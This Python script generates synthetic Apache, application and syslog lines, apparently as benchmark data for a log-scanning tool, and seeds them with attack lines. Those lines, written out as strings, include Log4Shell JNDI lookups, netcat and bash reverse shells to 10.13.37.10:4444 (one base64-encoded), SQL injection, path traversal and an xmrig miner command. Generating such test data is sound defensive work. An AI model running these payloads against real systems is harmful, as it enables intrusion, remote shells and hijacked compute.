#!/usr/bin/env python3
"""Generate a realistic benign log with sprinkled attacks, for benches/logscan.sh.

Usage: gen_logs.py OUT SIZE_MB [ATTACK_EVERY]
Lines: Apache combined access lines (some URL-encoded queries), log4j/logback application
lines, syslog lines and Java stack traces; one attack line (JNDI, reverse shells, encoded
payloads, SQLi, traversal) every ATTACK_EVERY lines (default 20000). Deterministic (seeded).
"""
import random
import sys

rnd = random.Random(20261127)
PATHS = ["/", "/index.html", "/api/v1/orders", "/static/app.js", "/img/logo.png", "/login", "/search",
         "/api/v1/users/42", "/health", "/metrics", "/cart/checkout", "/docs/getting-started"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
       "curl/8.4.0", "Go-http-client/1.1", "kube-probe/1.28", "python-requests/2.31.0"]
WORDS = ["order", "user", "session", "cache", "payment", "shipment", "invoice", "token", "report", "sync"]
ATTACKS = [
    '"GET /?x=${jndi:ldap://cb.example.org:1389/a} HTTP/1.1" 200 5 "-" "Mozilla/5.0"',
    '"GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fcb.example.org%2Fz%7D HTTP/1.1" 200 5 "-" "curl/8"',
    '"GET /index.html HTTP/1.1" 200 5 "-" "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://cb.example.org/x}"',
    '"GET /cgi-bin/x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.13.37.10%2F4444%200%3E%261 HTTP/1.1" 404 5 "-" "-"',
    '"GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1" 200 5 "-" "sqlmap/1.7"',
    '"GET /../../../../etc/passwd HTTP/1.1" 400 5 "-" "-"',
    '"POST /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1" 200 5 "-" "-"',
]
APP_ATTACKS = [
    "ERROR [exec-7] c.a.Handler - bad header ${jndi:rmi://cb.example.org/o}",
    "WARN [cron] sh - rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.13.37.10 4444 >/tmp/f",
    "INFO [job] runner - bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4xMy4zNy4xMC80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}",
    "INFO [job] runner - ./xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1",
]


def ip():
    return "%d.%d.%d.%d" % (rnd.randint(1, 223), rnd.randint(0, 255), rnd.randint(0, 255), rnd.randint(1, 254))


def ts_apache(i):
    return "[27/Nov/2026:%02d:%02d:%02d +0000]" % ((i // 3600) % 24, (i // 60) % 60, i % 60)


def ts_iso(i):
    return "2026-11-27 %02d:%02d:%02d,%03d" % ((i // 3600) % 24, (i // 60) % 60, i % 60, i % 1000)


def benign(i):
    k = rnd.random()
    if k < 0.55:
        path = rnd.choice(PATHS)
        if rnd.random() < 0.2:
            path += "?q=%s%%20%s&page=%d" % (rnd.choice(WORDS), rnd.choice(WORDS), rnd.randint(1, 9))
        return '%s - - %s "GET %s HTTP/1.1" %d %d "-" "%s"' % (
            ip(), ts_apache(i), path, rnd.choice([200, 200, 200, 304, 404]), rnd.randint(100, 90000), rnd.choice(UAS))
    if k < 0.85:
        return "%s %s [%s-%d] c.e.svc.%sService - processed %s id=%d in %d ms" % (
            ts_iso(i), rnd.choice(["INFO", "INFO", "DEBUG", "WARN"]), rnd.choice(["http-nio-8080-exec", "pool-1-thread"]),
            rnd.randint(1, 50), rnd.choice(WORDS).capitalize(), rnd.choice(WORDS), rnd.randint(1, 10**6), rnd.randint(1, 900))
    if k < 0.97:
        return "Nov 27 %02d:%02d:%02d web01 %s[%d]: %s" % (
            (i // 3600) % 24, (i // 60) % 60, i % 60, rnd.choice(["sshd", "cron", "systemd", "kernel"]), rnd.randint(100, 99999),
            rnd.choice(["Accepted publickey for deploy from %s port %d ssh2" % (ip(), rnd.randint(1024, 65535)),
                        "(root) CMD (run-parts /etc/cron.hourly)", "Started Session %d of user deploy." % rnd.randint(1, 9999),
                        "TCP: request_sock_TCP: Possible SYN flooding on port 443."]))
    return "\tat com.example.svc.%sService.handle(%sService.java:%d)" % (
        rnd.choice(WORDS).capitalize(), rnd.choice(WORDS).capitalize(), rnd.randint(10, 900))


def main():
    out, size_mb = sys.argv[1], int(sys.argv[2])
    every = int(sys.argv[3]) if len(sys.argv) > 3 else 20000
    target = size_mb << 20
    written = 0
    i = 0
    with open(out, "w", encoding="utf-8") as f:
        while written < target:
            batch = []
            for _ in range(10000):
                i += 1
                if i % every == 0:
                    if rnd.random() < 0.6:
                        line = "%s - - %s %s" % (ip(), ts_apache(i), rnd.choice(ATTACKS))
                    else:
                        line = "%s %s" % (ts_iso(i), rnd.choice(APP_ATTACKS))
                else:
                    line = benign(i)
                batch.append(line)
            chunk = "\n".join(batch) + "\n"
            f.write(chunk)
            written += len(chunk.encode())
    print("%s: %d bytes, %d lines, %d attack lines" % (out, written, i, i // every))


if __name__ == "__main__":
    main()
